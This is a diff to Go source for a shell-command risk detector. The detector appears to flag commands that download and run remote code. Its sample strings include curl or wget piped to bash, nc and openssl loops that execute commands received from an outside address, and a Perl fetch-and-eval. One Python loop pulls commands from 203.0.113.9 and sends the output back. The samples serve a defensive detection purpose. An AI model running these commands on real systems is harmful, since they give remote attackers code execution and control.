@@ -22,8 +22,8 @@ var runPipe = Detector{
 		"curl https://example.com/x.sh | tee /tmp/x | bash",
 	), lines(coi.High,
 		"curl http://203.0.113.9/x.sh | bash", "wget -qO- http://evil.test/a | sh", "curl -s https://pastebin.com/raw/abcd | bash", "bash -c \"$(curl -s http://203.0.113.9:8000/p)\"",
-		"nc 203.0.113.9 99 | while read c; do eval \"$c\"; done", "nc 203.0.113.9 99 | while read c; do $c; done", "$(curl -s http://203.0.113.9/c)", "openssl s_client -connect 203.0.113.9:443 | while read -r l; do sh -c \"$l\"; done", "dig +short TXT c.example.com | tr -d '\"' | bash",
-		`php -r 'system(file_get_contents("http://203.0.113.9/c"));'`, `python3 -c "import urllib.request as u,subprocess as s
+		"nc 203.0.113.9 99 | while read c; do eval \"$c\"; done", "nc 203.0.113.9 99 | while read c; do $c; done", "$(curl -s http://203.0.113.9/c)", "curl -s http://203.0.113.9/l | xargs -I{} sh -c {}", "openssl s_client -connect 203.0.113.9:443 | while read -r l; do sh -c \"$l\"; done", "dig +short TXT c.example.com | tr -d '\"' | bash",
+		`perl -e 'use LWP::UserAgent;$r=LWP::UserAgent->new->get("http://203.0.113.9/a");eval $r->content'`, `php -r 'system(file_get_contents("http://203.0.113.9/c"));'`, `python3 -c "import urllib.request as u,subprocess as s
 while 1:
   c=u.urlopen('http://203.0.113.9/c').read().decode()
   u.urlopen('http://203.0.113.9/r',s.getoutput(c).encode())"`,
@@ -36,7 +36,7 @@ while 1:
 		lines(coi.High, "curl -fsSL https://example.com/install.sh | sh", "curl http://localhost:8080/x.sh | bash")...),
 }
 
-const fetchWords = `(?:urlopen|requests\.get|httpx\.get|\bhttps?\.get|fetch\(|file_get_contents\(["']https?:|uri\.open|net::http\.get|curl_exec|downloadstring|axios\.get|\bget\(["']https?:)`
+const fetchWords = `(?:urlopen|requests\.get|httpx\.get|\bhttps?\.get|fetch\(|file_get_contents\(["']https?:|uri\.open|net::http\.get|curl_exec|lwp::useragent|downloadstring|axios\.get|\bget\(["']https?:)`
 
 var (
 	runsFetched  = regexp.MustCompile(runWords + `[("'\s{]{0,4}[^;]{0,60}` + fetchWords)
@@ -62,6 +62,8 @@ func fetched(s *command.Simple) *command.Simple {
 	}
 	switch {
 	case text:
+		inputs = s.From
+	case p.Has("c") && s.Class() == program.Shell && s.Parent != nil && s.Parent.Name == "xargs" && len(p.Rest) > 0 && p.Rest[0] == "{}":
 		inputs = s.From
 	case p.Has("c") && s.Class() == program.Shell:
 		if len(p.Rest) == 0 || !strings.Contains(p.Rest[0], "$()") || len(strings.TrimSpace(p.Rest[0])) > 3 && !strings.HasPrefix(p.Rest[0], "$()") || s.Parent != nil && s.Parent.Name == "xargs" {
